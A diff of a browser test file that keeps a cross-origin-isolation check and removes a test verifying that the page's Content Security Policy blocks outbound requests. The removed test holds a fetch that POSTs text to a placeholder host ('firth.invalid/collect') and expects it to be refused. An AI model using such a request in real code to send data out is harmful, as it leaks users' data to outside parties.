@@ -12,16 +12,3 @@ test('the page is cross-origin isolated', async ({ page }) => {
   await openPage(page);
   expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
 });
-
-test('the browser itself forbids sending anything elsewhere', async ({ page, watch }) => {
-  watch.expectError(/Content Security Policy|Failed to fetch|Refused to connect/);
-  await openPage(page);
-  const outcome = await page.evaluate(() =>
-    fetch('https://firth.invalid/collect', { method: 'POST', body: 'a text' }).then(
-      () => 'sent',
-      () => 'refused',
-    ),
-  );
-  expect(outcome).toBe('refused');
-  expect(watch.requests.filter((url) => url.includes('firth.invalid'))).toEqual([]);
-});
